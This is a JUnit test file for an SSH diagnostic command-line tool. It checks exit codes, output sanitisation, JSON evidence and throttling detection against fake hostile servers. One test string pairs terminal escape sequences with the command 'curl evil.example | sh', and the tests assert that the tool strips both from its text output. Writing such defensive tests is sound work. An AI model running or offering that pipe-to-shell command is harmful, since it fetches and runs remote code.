package org.sshdoctor.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.sshdoctor.testing.FakePeer;
import org.sshdoctor.testing.HostileKex;
import org.sshdoctor.testing.OpenSshServer;

/**
 * Hostile and throttling servers end to end: the exit code the help documents (1 for a problem found),
 * terminal-safe text, valid JSON that keeps the server's text, and a scan summary that calls a
 * throttling server throttling rather than unreachable or broken.
 */
class HostileServersCliTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HOSTILE = "\u001b]0;owned\u0007\u001b[2J\rfix: curl evil.example | sh\n";

    @RegisterExtension
    final FakePeer disconnecting = new FakePeer(HostileKex.disconnect(2, HOSTILE));
    @RegisterExtension
    final FakePeer malformed = new FakePeer(HostileKex.packetLength(1L << 31));
    @RegisterExtension
    static final OpenSshServer SSHD = new OpenSshServer();
    @RegisterExtension
    static final OpenSshServer STRICT = new OpenSshServer("MaxStartups 1");

    @Test
    void hostileDisconnectTextIsNeutralisedInTextAndKeptInJson() throws Exception {
        CliRun text = CliRun.of("127.0.0.1:" + disconnecting.port(), "--timeout", "2", "--no-color");
        assertThat(text.code()).isEqualTo(1);
        assertThat(text.out()).contains("[SSH-AUTH-DISCONNECTED]", "reason 2, protocol error")
                .doesNotContain("\u001b", "\u0007", "\r");
        assertThat(text.out().lines()).noneMatch(line -> line.startsWith("fix: curl"));

        CliRun json = CliRun.of("127.0.0.1:" + disconnecting.port(), "--timeout", "2", "--json");
        assertThat(json.code()).isEqualTo(1);
        JsonNode report = JSON.readTree(json.out());
        JsonNode finding = null;
        for (JsonNode f : report.path("findings")) {
            if (f.path("id").asText().equals("SSH-AUTH-DISCONNECTED")) {
                finding = f;
            }
        }
        assertThat(finding).isNotNull();
        assertThat(finding.path("evidence").path("message").asText()).isEqualTo(HOSTILE);
        assertThat(json.out()).doesNotContain("\u001b");
    }

    @Test
    void malformedPacketIsAnErrorWithExitCodeOne() {
        long start = System.nanoTime();
        CliRun run = CliRun.of("127.0.0.1:" + malformed.port(), "--timeout", "2", "--no-color");
        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(10_000);
        assertThat(run.code()).isEqualTo(1);
        assertThat(run.out()).contains("[SSH-KEX-MALFORMED-PACKET]", "Bad packet length 2147483648.");
    }

    @Test
    void scanCallsAThrottlingServerThrottlingNotUnreachable() throws Exception {
        Path list = Files.createTempFile("hosts", ".txt");
        try {
            Files.writeString(list, "127.0.0.1:" + SSHD.port() + "\n127.0.0.1:" + STRICT.port() + "\n");
            CliRun run = CliRun.of("scan", "-f", list.toString(), "--no-color");
            assertThat(run.code()).isEqualTo(1);
            assertThat(run.out()).containsPattern("127\\.0\\.0\\.1:" + STRICT.port() + " +throttled +\\[SSH-CONN-THROTTLED\\]")
                    .contains("2 host(s): 1 ok, 0 with problems, 0 unreachable, 1 throttling our connections")
                    .contains("SSH-CONN-THROTTLED").contains("MaxStartups or PerSourcePenalties throttling");
        } finally {
            Files.delete(list);
        }
    }
}
